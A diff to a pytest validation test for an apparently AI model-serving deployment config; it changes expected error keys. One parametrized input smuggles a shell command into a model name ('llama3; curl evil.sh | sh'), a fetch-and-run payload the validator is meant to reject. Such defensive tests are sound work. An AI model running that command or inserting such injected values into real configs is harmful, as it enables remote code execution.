@@ -385,9 +385,9 @@ def test_subnets_as_an_output_need_a_count() -> None:
 @pytest.mark.parametrize(
     ("overrides", "key"),
     [
-        ({"models": ["llama3; curl evil.sh | sh"]}, "ai.models"),
-        ({"models": []}, "ai.models"),
-        ({"api_security_group_id": None}, "farm:api"),
+        ({"models": ["llama3; curl evil.sh | sh"]}, "models"),
+        ({"models": []}, "models"),
+        ({"api_security_group_id": None}, "api_security_group_id"),
         ({"private_subnet_ids": []}, "private_subnet_ids"),
         ({"min_instances": 2, "max_instances": 1}, "ai.min_instances/max_instances"),
         ({"service_name": "Ollama_Service"}, "service_name"),
